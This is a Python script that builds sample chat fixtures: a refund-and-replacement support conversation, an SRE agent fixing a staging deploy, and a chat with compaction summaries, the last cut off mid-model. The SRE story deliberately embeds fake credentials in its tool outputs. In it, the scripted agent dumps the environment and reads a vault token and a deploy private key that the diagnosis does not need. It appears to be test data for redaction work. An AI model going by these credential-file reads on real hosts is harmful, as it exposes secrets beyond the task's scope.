#!/usr/bin/env python
"""Write the hand-scripted sample chats into sample_chats/ (deterministic; run it again after
editing a story and commit the JSON files).

    python scripts/make_sample_chats.py            # write all
    python scripts/make_sample_chats.py --check    # exit 1 when a committed file is out of date

The large generated chat is not written here: ctxlab.samples builds it on demand
(scripts/make_large_chat.py writes it explicitly).
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import json
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent))

from _chat_builder import WRITTEN, Call, ChatBuilder
from _coding_session import build as build_coding
from _long_chat import build as build_long_chat

OUT = Path(__file__).resolve().parent.parent / "sample_chats"


def j(value: Any) -> str:
    """Compact JSON as a function-calling API returns it."""
    return json.dumps(value, ensure_ascii=False)


# --------------------------------------------------------------------------------------------
# Support conversation with function calls


def build_support() -> dict[str, Any]:
    b = ChatBuilder("sup")
    b.system(
        "You are Nora, the customer-support assistant of Northwind Outfitters, an online "
        "outdoor-gear shop (EU and UK). Be warm and concise. Always verify the customer with "
        "lookup_customer before discussing an order. Refund policy: unworn items within 30 days "
        "of delivery get a full refund to the original payment method; worn or damaged-by-use "
        "items are not refundable; items that arrive defective are refundable at any time "
        "within the 2-year warranty. Never promise a refund before check_refund_eligibility "
        "says it is eligible. Refunds above 250 EUR need a supervisor (escalate_to_human)."
    )
    b.user(
        "Hi, I ordered hiking boots and a rain jacket two weeks ago. The boots are a size too "
        "small and the jacket still hasn't arrived. Order number NW-2024-118734."
    )
    b.tools(
        "Sorry to hear that! Let me pull up the order. Could you confirm the email address on "
        "the account while I look?",
        Call(
            "lookup_order",
            {"order_id": "NW-2024-118734"},
            j(
                {
                    "order_id": "NW-2024-118734",
                    "customer_id": "C-558201",
                    "placed_at": "2024-05-02T19:41:07Z",
                    "status": "partially_delivered",
                    "currency": "EUR",
                    "items": [
                        {
                            "line": 1,
                            "sku": "BT-ALPINE-GTX-M-42",
                            "name": "Alpine GTX hiking boot, men's, EU 42",
                            "qty": 1,
                            "unit_price": 189.95,
                            "shipment_id": "SH-77120",
                        },
                        {
                            "line": 2,
                            "sku": "JK-STORMSHELL-W-M-BLUE",
                            "name": "Stormshell 2.5L rain jacket, women's, M, lake blue",
                            "qty": 1,
                            "unit_price": 149.0,
                            "shipment_id": "SH-77121",
                        },
                        {
                            "line": 3,
                            "sku": "SK-MERINO-3PK-L",
                            "name": "Merino hiking socks, 3-pack, L",
                            "qty": 1,
                            "unit_price": 27.5,
                            "shipment_id": "SH-77120",
                        },
                    ],
                    "shipping": {"method": "standard", "cost": 0.0},
                    "payment": {"method": "card", "brand": "visa", "last4": "4417"},
                    "total": 366.45,
                }
            ),
        ),
    )
    b.user("It's marta.keller@posteo.de")
    b.tools(
        None,
        Call(
            "lookup_customer",
            {"email": "marta.keller@posteo.de"},
            j(
                {
                    "customer_id": "C-558201",
                    "name": "Marta Keller",
                    "email": "marta.keller@posteo.de",
                    "member_since": "2019-03-14",
                    "tier": "trail_club_gold",
                    "country": "DE",
                    "open_tickets": 0,
                }
            ),
        ),
    )
    b.tools(
        "Thanks, Marta, you're verified. Let me check both shipments.",
        Call(
            "get_shipment_tracking",
            {"shipment_id": "SH-77120"},
            j(
                {
                    "shipment_id": "SH-77120",
                    "carrier": "DHL",
                    "tracking_number": "JJD0001482773019",
                    "status": "delivered",
                    "delivered_at": "2024-05-06T11:02:00+02:00",
                    "events": [
                        {
                            "at": "2024-05-03T08:10:00+02:00",
                            "event": "picked_up",
                            "where": "Kassel",
                        },
                        {"at": "2024-05-04T22:41:00+02:00", "event": "hub", "where": "Hannover"},
                        {
                            "at": "2024-05-06T11:02:00+02:00",
                            "event": "delivered",
                            "where": "Bremen",
                        },
                    ],
                }
            ),
        ),
        Call(
            "get_shipment_tracking",
            {"shipment_id": "SH-77121"},
            j(
                {
                    "shipment_id": "SH-77121",
                    "carrier": "DHL",
                    "tracking_number": "JJD0001482773020",
                    "status": "exception",
                    "delivered_at": None,
                    "events": [
                        {
                            "at": "2024-05-07T09:30:00+02:00",
                            "event": "picked_up",
                            "where": "Kassel",
                        },
                        {"at": "2024-05-08T03:12:00+02:00", "event": "hub", "where": "Hannover"},
                        {
                            "at": "2024-05-09T14:55:00+02:00",
                            "event": "exception",
                            "where": "Bremen",
                            "detail": "address label damaged - returned to sender",
                        },
                    ],
                }
            ),
        ),
    )
    b.assistant(
        "Here's where things stand:\n\n"
        "- **Boots and socks** (shipment SH-77120) were delivered on 6 May.\n"
        "- **Stormshell jacket** (SH-77121): DHL reported on 9 May that the address label was "
        "damaged in Bremen, and the parcel is on its way back to our warehouse. That's why it "
        "never reached you. I'm sorry about that.\n\n"
        "For the jacket, I can either send a replacement by express at no cost or refund it. "
        "For the boots: have you worn them outside, or only tried them on indoors?"
    )
    b.user(
        "Only tried them on at home, on the carpet. I'd like a refund for the boots, I'll "
        "order the 43 separately because I want to try another model too. And please resend "
        "the jacket, express if possible, I'm going to the Dolomites on the 24th."
    )
    b.tools(
        "Got it. Checking refund eligibility for the boots and stock for the jacket.",
        Call(
            "check_refund_eligibility",
            {
                "order_id": "NW-2024-118734",
                "line": 1,
                "reason": "wrong_size",
                "condition": "unworn",
            },
            j(
                {
                    "eligible": True,
                    "policy": "unworn_30_days",
                    "days_since_delivery": 11,
                    "refund_amount": 189.95,
                    "requires_return": True,
                    "return_deadline": "2024-06-05",
                    "requires_supervisor": False,
                }
            ),
        ),
        Call(
            "check_inventory",
            {"sku": "JK-STORMSHELL-W-M-BLUE", "warehouse": "DE-KS"},
            j({"sku": "JK-STORMSHELL-W-M-BLUE", "warehouse": "DE-KS", "available": 3}),
        ),
    )
    b.tools(
        "The boots are eligible. I'll create the return label first; the refund is issued "
        "as soon as the label is created for Trail Club Gold members.",
        Call(
            "create_return_label",
            {"order_id": "NW-2024-118734", "lines": [1], "carrier": "DHL"},
            j(
                {
                    "return_id": "RT-30981",
                    "label_url": "https://returns.northwind.example/labels/RT-30981.pdf",
                    "qr_code": "https://returns.northwind.example/qr/RT-30981.png",
                    "drop_off": "any DHL Packstation or Paketshop",
                    "expires": "2024-06-05",
                }
            ),
        ),
    )
    b.tools(
        None,
        Call(
            "issue_refund",
            {
                "order_id": "NW-2024-118734",
                "lines": [1],
                "amount": 189.95,
                "currency": "EUR",
                "reason": "wrong_size",
                "return_id": "RT-30981",
            },
            j(
                {
                    "refund_id": "RF-66410",
                    "status": "pending_settlement",
                    "amount": 189.95,
                    "currency": "EUR",
                    "to": "visa ****4417",
                    "expected_settlement": "3-5 business days",
                }
            ),
        ),
        Call(
            "create_replacement_order",
            {
                "order_id": "NW-2024-118734",
                "lines": [2],
                "shipping_method": "express",
                "reason": "carrier_exception",
            },
            j(
                {
                    "order_id": "NW-2024-121907",
                    "status": "processing",
                    "shipping_method": "express",
                    "estimated_delivery": "2024-05-21",
                    "charge": 0.0,
                }
            ),
        ),
    )
    b.assistant(
        "All done, Marta:\n\n"
        "1. **Boots refund**: 189.95 EUR to your Visa ending 4417 (refund RF-66410, 3-5 "
        "business days). Please send the boots back with return label RT-30981 by **5 June**; "
        "you can drop them at any DHL Packstation. I've emailed you the label.\n"
        "2. **Jacket**: a free express replacement, order NW-2024-121907, expected **21 May**, "
        "so before your trip on the 24th.\n\n"
        "Is there anything else I can help with?"
    )
    b.user(
        "Great, thanks! Actually one more: the socks are fine but one pair had a hole after "
        "the first walk. Is that covered?"
    )
    b.tools(
        "That shouldn't happen after one walk. Let me check what the warranty says for that.",
        Call(
            "check_refund_eligibility",
            {
                "order_id": "NW-2024-118734",
                "line": 3,
                "reason": "defective",
                "condition": "worn_once",
            },
            j(
                {
                    "eligible": True,
                    "policy": "warranty_defect",
                    "days_since_delivery": 11,
                    "refund_amount": 27.5,
                    "partial_options": [{"units": 1, "of": 3, "amount": 9.17}],
                    "requires_return": False,
                    "requires_photo": True,
                    "requires_supervisor": False,
                }
            ),
        ),
    )
    b.assistant(
        "Yes, a hole after one walk counts as a manufacturing defect under the warranty. I "
        "can refund the one pair (9.17 EUR, a third of the pack) or the whole pack (27.50 "
        "EUR). You don't need to send them back, but I need a photo of the hole for the "
        "warranty record. Could you upload one here?"
    )
    b.user("[image: photo of a grey merino sock with a hole at the heel]\nWhole pack please.")
    b.tools(
        None,
        Call(
            "attach_evidence",
            {"order_id": "NW-2024-118734", "line": 3, "kind": "photo", "upload_id": "UP-99012"},
            j({"evidence_id": "EV-4410", "status": "stored"}),
        ),
        Call(
            "issue_refund",
            {
                "order_id": "NW-2024-118734",
                "lines": [3],
                "amount": 27.5,
                "currency": "EUR",
                "reason": "defective",
                "evidence_id": "EV-4410",
            },
            j(
                {
                    "refund_id": "RF-66411",
                    "status": "pending_settlement",
                    "amount": 27.5,
                    "currency": "EUR",
                    "to": "visa ****4417",
                    "expected_settlement": "3-5 business days",
                }
            ),
        ),
    )
    b.assistant(
        "Done: 27.50 EUR refunded for the socks (RF-66411), no need to return them. In total "
        "you'll get 217.45 EUR back on your Visa ending 4417."
    )
    b.user(
        "Perfect. Oh wait, I just realised I won't be home on the 21st, I'm at my sister's in "
        "Hamburg from the 20th to the 23rd. Can the jacket go there? Elbchaussee 112, 22763 "
        "Hamburg, c/o Jana Keller."
    )
    b.tools(
        "Let me try to change the address before it ships.",
        Call(
            "update_shipping_address",
            {
                "order_id": "NW-2024-121907",
                "address": {
                    "name": "Marta Keller",
                    "care_of": "Jana Keller",
                    "street": "Elbchaussee 112",
                    "postal_code": "22763",
                    "city": "Hamburg",
                    "country": "DE",
                },
            },
            j(
                {
                    "order_id": "NW-2024-121907",
                    "updated": True,
                    "status": "processing",
                    "estimated_delivery": "2024-05-21",
                    "note": "address changed before label creation",
                }
            ),
        ),
    )
    b.assistant(
        "Updated: the jacket (NW-2024-121907) will go to Elbchaussee 112, 22763 Hamburg, c/o "
        "Jana Keller, still expected on 21 May. The boots' return label is unaffected."
    )
    b.user(
        "And since I'm ordering the boots in 43 anyway, can I get the Trail Club discount on "
        "the new pair? Last time someone gave me 15%."
    )
    b.tools(
        None,
        Call(
            "get_customer_benefits",
            {"customer_id": "C-558201"},
            j(
                {
                    "tier": "trail_club_gold",
                    "benefits": [
                        {"code": "free_shipping", "active": True},
                        {"code": "gold_10", "percent": 10, "active": True, "uses_left": 1},
                        {
                            "code": "birthday_15",
                            "percent": 15,
                            "active": False,
                            "valid": "2024-03-01..2024-03-31",
                            "used": "2024-03-19",
                        },
                    ],
                }
            ),
        ),
    )
    b.assistant(
        "The 15% was your birthday voucher, used on 19 March, so it isn't available any more. "
        "You do have an unused **Gold 10%** voucher: it applies automatically at checkout "
        "when you're logged in. Free shipping too."
    )
    b.user("10 is fine. Can you just place the order for me? Alpine GTX, men's, 43.")
    b.tools(
        None,
        Call(
            "check_inventory",
            {"sku": "BT-ALPINE-GTX-M-43", "warehouse": "DE-KS"},
            j(
                {
                    "sku": "BT-ALPINE-GTX-M-43",
                    "warehouse": "DE-KS",
                    "available": 0,
                    "restock_eta": "2024-05-29",
                }
            ),
        ),
        Call(
            "check_inventory",
            {"sku": "BT-ALPINE-GTX-M-43", "warehouse": "NL-VE"},
            j({"sku": "BT-ALPINE-GTX-M-43", "warehouse": "NL-VE", "available": 2}),
        ),
    )
    b.assistant(
        "Size 43 is sold out in our Kassel warehouse (restock 29 May) but Venlo has 2 pairs. "
        "From Venlo, standard delivery would take 3-4 working days, so around 23-24 May: too "
        "late for Hamburg, but in time if it goes to your home in Bremen and you're back on "
        "the 23rd. Should I place it with delivery to Bremen? With your 10% the boots come "
        "to **170.96 EUR** instead of 189.95."
    )
    b.user("Yes, to Bremen, 170.96 is right.")
    b.tools(
        None,
        Call(
            "create_order",
            {
                "customer_id": "C-558201",
                "items": [{"sku": "BT-ALPINE-GTX-M-43", "qty": 1, "warehouse": "NL-VE"}],
                "voucher": "gold_10",
                "shipping_method": "standard",
                "address": "default",
                "payment": "card_on_file_4417",
            },
            j(
                {
                    "order_id": "NW-2024-121944",
                    "status": "confirmed",
                    "subtotal": 189.95,
                    "discount": 18.99,
                    "total": 170.96,
                    "estimated_delivery": "2024-05-23",
                    "ship_to": "Marta Keller, Am Wall 31, 28195 Bremen, DE",
                }
            ),
        ),
    )
    b.assistant(
        "Ordered: **NW-2024-121944**, Alpine GTX men's EU 43, 170.96 EUR charged to your Visa "
        "ending 4417, delivery to Am Wall 31 in Bremen expected **23 May**.\n\n"
        "Summary of today:\n- Refunds: 189.95 EUR (boots, after return by 5 June) + 27.50 EUR "
        "(socks).\n- Jacket replacement NW-2024-121907 to Hamburg, 21 May.\n- New boots "
        "NW-2024-121944 to Bremen, 23 May.\n\nHave a wonderful time in the Dolomites!"
    )
    b.user("Thank you Nora, that was painless!")
    b.assistant("My pleasure, Marta. Happy trails! 🥾")
    return b.document(
        "Support: refund and replacement with function calls",
        "An e-commerce support assistant verifies a customer, tracks shipments, checks refund "
        "eligibility, issues refunds and places orders: parallel function calls with JSON "
        "results, and facts (order numbers, amounts, dates) that later turns depend on.",
    )


# --------------------------------------------------------------------------------------------
# Secrets in tool outputs (all credentials below are FAKE and well-formed)


def _b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _fake_chars(seed: str, n: int, alphabet: str) -> str:
    out = []
    counter = 0
    while len(out) < n:
        digest = hashlib.sha256(f"{seed}/{counter}".encode()).digest()
        out.extend(alphabet[b % len(alphabet)] for b in digest)
        counter += 1
    return "".join(out[:n])


_ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
_URLSAFE = _ALNUM + "-_"

FAKE = {
    "openai": "sk-proj-FAKE"
    + _fake_chars("openai", 60, _URLSAFE)
    + "T3BlbkFJ"
    + _fake_chars("openai2", 60, _URLSAFE)
    + "EXAMPLE",
    "openai_user": "sk-proj-FAKEuserPASTED"
    + _fake_chars("openai-user", 50, _URLSAFE)
    + "T3BlbkFJ"
    + _fake_chars("openai-user2", 50, _URLSAFE),
    "anthropic": "sk-ant-api03-FAKE" + _fake_chars("anthropic", 85, _URLSAFE) + "-EXAMPLEAA",
    "aws_id": "AKIAIOSFODNN7EXAMPLE",
    "aws_secret": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "github": "ghp_FAKE" + _fake_chars("github", 32, _ALNUM),
    "pg_password": "FAKE-pg-h7Qw9xLm2Vt",
    "stripe": "sk_live_FAKE" + _fake_chars("stripe", 20, _ALNUM) + "EXAMPLE",
    "jwt": _b64url(b'{"alg":"RS256","typ":"JWT","kid":"fake-key-1"}')
    + "."
    + _b64url(
        b'{"sub":"svc-deployer","iss":"https://auth.example.invalid","aud":"orders-api",'
        b'"iat":1716200000,"exp":1716203600,"scope":"orders:write"}'
    )
    + "."
    + _b64url(b"FAKE-SIGNATURE-" + hashlib.sha256(b"jwt").digest() * 2),
}
_PEM_BODY = _fake_chars("pem", 64 * 10, _ALNUM + "+/")
FAKE["pem"] = (
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAFAKEKEYEXAMPLE"
    + "\n".join(_PEM_BODY[i : i + 64] for i in range(0, len(_PEM_BODY), 64))
    + "\n-----END RSA PRIVATE KEY-----"
)


def build_secrets() -> dict[str, Any]:
    f = FAKE
    b = ChatBuilder("sec")
    b.system(
        "You are an SRE assistant with shell access to the staging host orders-stg-2 (Ubuntu "
        "22.04). Tools: run_shell(command), read_file(path), http_request(method, url, "
        "headers, body). Investigate before changing anything; never restart production."
    )
    b.user(
        "The orders-api deploy to staging fails its health check since this morning. "
        "Container restarts in a loop. Can you find out why?"
    )
    b.tools(
        "Starting with the container state and its recent logs.",
        Call(
            "run_shell",
            {"command": "docker ps -a --filter name=orders-api --format '{{.Names}} {{.Status}}'"},
            "orders-api Restarting (1) 8 seconds ago",
        ),
        Call(
            "run_shell",
            {"command": "docker logs --tail 40 orders-api"},
            "2024-05-20T07:41:12Z INFO  starting orders-api 2.14.0 (git 9f3c2e1)\n"
            "2024-05-20T07:41:12Z INFO  loading settings from environment\n"
            "2024-05-20T07:41:13Z INFO  connecting to postgres host=db-stg.internal port=5432 "
            "dbname=orders user=orders_app\n"
            "2024-05-20T07:41:18Z ERROR could not connect to database: connection to server at "
            '"db-stg.internal" (10.20.4.17), port 5432 failed: FATAL:  password '
            'authentication failed for user "orders_app"\n'
            "2024-05-20T07:41:18Z ERROR startup failed; exiting with status 1",
        ),
    )
    b.tools(
        "Password authentication fails for orders_app. Let me see which credentials the "
        "container actually gets.",
        Call(
            "run_shell",
            {"command": "docker exec orders-api env | sort"},
            "\n".join(
                [
                    f"ANTHROPIC_API_KEY={f['anthropic']}",
                    "APP_ENV=staging",
                    f"AWS_ACCESS_KEY_ID={f['aws_id']}",
                    "AWS_DEFAULT_REGION=eu-central-1",
                    f"AWS_SECRET_ACCESS_KEY={f['aws_secret']}",
                    f"DATABASE_DSN=host=db-stg.internal port=5432 dbname=orders user=orders_app "
                    f"password={f['pg_password']} sslmode=require",
                    f"GITHUB_TOKEN={f['github']}",
                    "HOME=/home/app",
                    "HOSTNAME=4c1d2e9a7b10",
                    "LOG_LEVEL=info",
                    f"OPENAI_API_KEY={f['openai']}",
                    "PATH=/usr/local/bin:/usr/bin:/bin",
                    "PYTHONUNBUFFERED=1",
                    "S3_BUCKET=orders-stg-exports",
                    f"STRIPE_SECRET_KEY={f['stripe']}",
                ]
            ),
        ),
    )
    b.tools(
        "The container has a DSN with an explicit password. Let me compare with what the "
        "compose file and the secrets file say, and check when they changed.",
        Call(
            "read_file",
            {"path": "/srv/orders/docker-compose.yml"},
            "services:\n  orders-api:\n    image: registry.example.invalid/orders-api:2.14.0\n"
            "    env_file:\n      - /srv/orders/.env\n    environment:\n      APP_ENV: staging\n"
            '    ports:\n      - "8080:8080"\n    healthcheck:\n      test: ["CMD", "curl", '
            '"-fsS", "http://localhost:8080/healthz"]\n      interval: 10s\n      retries: 3\n',
        ),
        Call(
            "read_file",
            {"path": "/srv/orders/.env"},
            "# managed by ansible - do not edit by hand (last run 2024-05-20 06:58 UTC)\n"
            f"DATABASE_DSN=host=db-stg.internal port=5432 dbname=orders user=orders_app "
            f"password={f['pg_password']} sslmode=require\n"
            f"OPENAI_API_KEY={f['openai']}\n"
            f"ANTHROPIC_API_KEY={f['anthropic']}\n"
            f"AWS_ACCESS_KEY_ID={f['aws_id']}\nAWS_SECRET_ACCESS_KEY={f['aws_secret']}\n"
            f"GITHUB_TOKEN={f['github']}\nSTRIPE_SECRET_KEY={f['stripe']}\n"
            "S3_BUCKET=orders-stg-exports\nLOG_LEVEL=info\n",
        ),
        Call(
            "run_shell",
            {
                "command": "ls -l --time-style=full-iso /srv/orders/.env && journalctl -u "
                "ansible-pull --since today --no-pager | tail -5"
            },
            "-rw------- 1 root root 1187 2024-05-20 06:58:41.112 +0000 /srv/orders/.env\n"
            "May 20 06:58:39 orders-stg-2 ansible-pull[2211]: TASK [orders : render env file]\n"
            "May 20 06:58:41 orders-stg-2 ansible-pull[2211]: changed: [localhost]\n"
            "May 20 06:58:44 orders-stg-2 ansible-pull[2211]: TASK [orders : restart stack]\n"
            "May 20 06:58:52 orders-stg-2 ansible-pull[2211]: changed: [localhost]\n"
            "May 20 06:58:52 orders-stg-2 ansible-pull[2211]: PLAY RECAP ok=14 changed=2",
        ),
    )
    b.tools(
        "Ansible re-rendered the env file at 06:58 and restarted the stack. I'll test the "
        "password from the DSN directly against the database.",
        Call(
            "run_shell",
            {
                "command": 'psql "host=db-stg.internal port=5432 dbname=orders user=orders_app '
                f"password={f['pg_password']} sslmode=require\" -c 'select 1'"
            },
            'psql: error: connection to server at "db-stg.internal" (10.20.4.17), port 5432 '
            'failed: FATAL:  password authentication failed for user "orders_app"',
        ),
    )
    b.tools(
        "So the database no longer accepts that password. The DB password is probably "
        "rotated in the secrets manager; let me ask the vault API which version is current "
        "(the service token is in the deploy user's config).",
        Call(
            "read_file",
            {"path": "/home/deploy/.config/vault/token.json"},
            j(
                {
                    "auth": {
                        "client_token": f["jwt"],
                        "lease_duration": 3600,
                        "renewable": True,
                        "policies": ["orders-stg-read"],
                    }
                }
            ),
        ),
    )
    b.tools(
        None,
        Call(
            "http_request",
            {
                "method": "GET",
                "url": "https://vault.example.invalid/v1/secret/data/orders/stg/db",
                "headers": {"Authorization": f"Bearer {f['jwt']}"},
            },
            "*   Trying 10.20.1.5:443...\n* Connected to vault.example.invalid (10.20.1.5) "
            "port 443 (#0)\n* TLSv1.3 (OUT), TLS handshake, Client hello (1):\n"
            "* SSL connection using TLSv1.3 / TLS_AES_256_GCM_SHA384\n"
            "> GET /v1/secret/data/orders/stg/db HTTP/1.1\n> Host: vault.example.invalid\n"
            f"> Authorization: Bearer {f['jwt']}\n> User-Agent: curl/7.81.0\n> Accept: */*\n>\n"
            "< HTTP/1.1 200 OK\n< Content-Type: application/json\n< Date: Mon, 20 May 2024 "
            "07:49:03 GMT\n<\n"
            + j(
                {
                    "data": {
                        "data": {"username": "orders_app", "password": "FAKE-pg-rotated-K3v8Rr"},
                        "metadata": {
                            "created_time": "2024-05-19T22:00:04Z",
                            "version": 7,
                            "custom_metadata": {"rotated_by": "db-rotation-job"},
                        },
                    }
                }
            )
            + "\n* Connection #0 to host vault.example.invalid left intact",
        ),
    )
    b.assistant(
        "Found the cause. The nightly rotation job wrote a new orders_app password to the "
        "vault at 22:00 UTC yesterday (version 7), but the ansible run at 06:58 rendered "
        "`/srv/orders/.env` with the **old** password, so the API cannot log in to Postgres "
        "and the container restarts in a loop.\n\nLikely reason: the ansible role reads the "
        "secret from a cached copy. Shall I check the role's lookup and re-run it, or do you "
        "want to handle the rotation yourself?\n\nAlso, unrelated but worth fixing: the "
        "container's environment holds an OpenAI key, an Anthropic key, AWS keys, a GitHub "
        "token and a live Stripe key that orders-api does not need at startup; they are "
        "readable by anyone who can run `docker exec` on this host."
    )
    b.user(
        "Check the role. Also we rotated the OpenAI key last week, the new one is "
        f"{f['openai_user']} - make sure that's the one in the env file, the old one was "
        "revoked."
    )
    b.tools(
        "Looking at the ansible role's secret lookup and its cache.",
        Call(
            "run_shell",
            {"command": "grep -rn 'hashi_vault\\|lookup(' /etc/ansible/roles/orders/ | head -20"},
            "/etc/ansible/roles/orders/tasks/env.yml:4:    db_password: \"{{ lookup('file', "
            "'/var/cache/ansible/orders_db_password') }}\"\n"
            "/etc/ansible/roles/orders/tasks/env.yml:5:    openai_key: \"{{ lookup('community."
            "hashi_vault.hashi_vault', 'secret/data/orders/stg/openai:key') }}\"\n"
            "/etc/ansible/roles/orders/tasks/cache.yml:2:  # refresh DB password at most once "
            "a day (vault rate limits)\n"
            "/etc/ansible/roles/orders/tasks/cache.yml:9:    creates: /var/cache/ansible/"
            "orders_db_password",
        ),
        Call(
            "read_file",
            {"path": "/etc/ansible/roles/orders/files/deploy_key"},
            f"{f['pem']}\n",
        ),
    )
    b.tools(
        "Confirmed: `cache.yml` only fetches the DB password when the cache file does not "
        "exist (`creates:`), so a rotation is never picked up. I'll refresh the cache, write "
        "the new OpenAI key to the vault path the role reads, and re-run the role for "
        "staging only.",
        Call(
            "run_shell",
            {
                "command": "rm /var/cache/ansible/orders_db_password && vault kv patch "
                f"secret/orders/stg/openai key={f['openai_user']} && ansible-pull -U "
                "git@git.example.invalid:ops/ansible.git -l orders-stg-2 orders.yml --tags env"
            },
            "Key              Value\n---              -----\ncreated_time     2024-05-20T07:58:10Z"
            "\nversion          4\n"
            "PLAY [orders-stg-2] ***********************************************************\n"
            "TASK [orders : fetch db password] **********************************************\n"
            "changed: [localhost]\n"
            "TASK [orders : render env file] ************************************************\n"
            "changed: [localhost]\n"
            "TASK [orders : restart stack] **************************************************\n"
            "changed: [localhost]\n"
            "PLAY RECAP *********************************************************************\n"
            "localhost : ok=14 changed=3 unreachable=0 failed=0 skipped=0",
        ),
    )
    b.tools(
        None,
        Call(
            "http_request",
            {"method": "GET", "url": "http://127.0.0.1:8080/healthz", "headers": {}},
            "< HTTP/1.1 200 OK\n< content-type: application/json\n<\n"
            + j({"status": "ok", "db": "ok", "version": "2.14.0"}),
        ),
        Call(
            "run_shell",
            {"command": "grep -c OPENAI_API_KEY=sk-proj-FAKEuserPASTED /srv/orders/.env"},
            "1",
        ),
    )
    b.assistant(
        "Staging is healthy again (`/healthz` returns ok, db ok).\n\n"
        "- Root cause: `roles/orders/tasks/cache.yml` caches the DB password forever "
        "(`creates:` on the cache file), so the nightly rotation broke the next deploy. I "
        "removed the cache file and re-ran the role; the fix is to give the cache a max age "
        "or drop it (I did not change the role).\n"
        "- The new OpenAI key is in the vault and in `/srv/orders/.env`.\n\n"
        "Please treat this chat as sensitive: it contains the DB DSN, API keys and the "
        "deploy key's private half. I'd recommend rotating the GitHub token and the deploy "
        "key, since they were printed here."
    )
    return b.document(
        "Ops agent with secrets in tool outputs (fake credentials)",
        "An SRE agent debugs a failing deploy; its tool outputs (env dump, .env file, curl -v, "
        "a private key) and some tool-call arguments hold credentials, and the user pastes a "
        "key once. All values are FAKE but well-formed. Use it to see what redaction removes "
        "from a summarizer request.",
        WRITTEN + "; every credential is fake",
    )


# --------------------------------------------------------------------------------------------
# A chat that already holds a compaction chain


def build_compaction_chain() -> dict[str, Any]:
    b = ChatBuilder("cmp")
    b.system(
        "You are a data-engineering assistant helping migrate the reporting warehouse from "
        "nightly CSV dumps to an incremental dbt + DuckDB pipeline. Tools: run_sql(query), "
        "run_shell(command)."
    )
    summary1 = (
        "Summary of the conversation so far (compaction 1):\n"
        "- Goal: replace the nightly CSV dump of the `shop` Postgres database with an "
        "incremental dbt project on DuckDB (file warehouse.duckdb), refreshed hourly.\n"
        "- Sources agreed: orders (2.1M rows), order_lines (7.9M), customers (410k), "
        "products (12k). All have `updated_at`; order_lines has no primary key (use "
        "order_id + line_no).\n"
        "- Decisions: incremental models with `unique_key`, `updated_at` watermark with a "
        "2-hour lookback for late writes; currency amounts kept as DECIMAL(12,2).\n"
        "- Done: dbt project scaffolded in ~/src/warehouse, `stg_orders` and `stg_customers` "
        "models written and passing `dbt build`.\n"
        "- Open: order_lines dedup, the refunds table the user mentioned, hourly schedule."
    )
    b.add(
        "user",
        "[compaction] The conversation above was summarized to save context.",
        is_compaction=True,
        compaction_meta={
            "tail_start_id": "cmp-004",
            "previous_compaction_id": None,
            "summary_text": summary1,
        },
    )
    b.add("assistant", summary1, is_summary=True)
    first_tail = b.user(
        "Next: stg_order_lines. Remember there is no primary key. Also refunds live in "
        "`payments.refunds`, not in shop."
    )
    b.tools(
        "Checking for duplicates on (order_id, line_no) first.",
        Call(
            "run_sql",
            {
                "query": "select order_id, line_no, count(*) from shop.order_lines group by 1, 2 "
                "having count(*) > 1 limit 5"
            },
            "order_id | line_no | count\n---------+---------+------\n 1884120 |       2 |     2\n"
            " 1884120 |       3 |     2\n 2001377 |       1 |     2\n(3 rows)",
        ),
    )
    b.assistant(
        "Three duplicate keys, all from orders edited in the back office (the line is "
        "re-inserted instead of updated). I'll keep the row with the latest `updated_at` in "
        "`stg_order_lines` using `qualify row_number() over (partition by order_id, line_no "
        "order by updated_at desc) = 1`."
    )
    b.user("Good. Do it and add the refunds source.")
    b.tools(
        None,
        Call(
            "run_shell",
            {"command": "cd ~/src/warehouse && dbt build -s stg_order_lines stg_refunds"},
            "Running with dbt=1.7.14\nFound 6 models, 14 tests, 4 sources\n"
            "1 of 2 START sql incremental model main.stg_order_lines ... [RUN]\n"
            "1 of 2 OK created sql incremental model main.stg_order_lines [INSERT 7912004 "
            "in 41.22s]\n2 of 2 START sql incremental model main.stg_refunds ... [RUN]\n"
            "2 of 2 OK created sql incremental model main.stg_refunds [INSERT 38710 in 1.90s]\n"
            "Completed successfully\nDone. PASS=8 WARN=0 ERROR=0 SKIP=0 TOTAL=8",
        ),
    )
    b.assistant("Both models build; tests pass (unique + not_null on the composite key).")
    summary2 = (
        "Summary of the conversation so far (compaction 2, updating compaction 1):\n"
        "- Goal unchanged: incremental dbt + DuckDB warehouse (warehouse.duckdb) from the "
        "`shop` Postgres DB plus `payments.refunds`, refreshed hourly.\n"
        "- Models done and passing `dbt build`: stg_orders, stg_customers, stg_order_lines "
        "(dedup on order_id + line_no keeping latest updated_at; 3 duplicate keys found, "
        "caused by back-office edits), stg_refunds (38,710 rows).\n"
        "- Decisions: 2-hour lookback on the updated_at watermark; DECIMAL(12,2) amounts; "
        "refunds joined on payment_id, not order_id.\n"
        "- Open: fct_daily_revenue (net of refunds), hourly schedule via systemd timer, "
        "and retire the CSV dump once numbers match for 7 days."
    )
    comp2 = b.add(
        "user",
        "[compaction] The conversation above was summarized to save context.",
        is_compaction=True,
        compaction_meta={
            "tail_start_id": None,  # set below, once the tail's first id is known
            "previous_compaction_id": "cmp-002",
            "summary_text": summary2,
        },
    )
    b.add("assistant", summary2, is_summary=True)
    tail_start = b.user(
        "Let's do fct_daily_revenue. Net revenue = sum of line amounts minus refunds, by "
        "day in Europe/Berlin, not UTC."
    )
    b.messages[[m["id"] for m in b.messages].index(comp2)]["compaction_meta"]["tail_start_id"] = (
        tail_start
    )
    b.tools(
        "Writing the model, then comparing one day with the old CSV numbers.",
        Call(
            "run_shell",
            {"command": "cat ~/src/warehouse/models/marts/fct_daily_revenue.sql"},
            "{{ config(materialized='incremental', unique_key='day') }}\n\n"
            "with lines as (\n    select o.order_id,\n"
            "           (o.created_at at time zone 'Europe/Berlin')::date as day,\n"
            "           l.quantity * l.unit_price as amount\n"
            "    from {{ ref('stg_orders') }} o\n"
            "    join {{ ref('stg_order_lines') }} l using (order_id)\n"
            "    where o.status not in ('cancelled', 'fraud')\n"
            "    {% if is_incremental() %}\n"
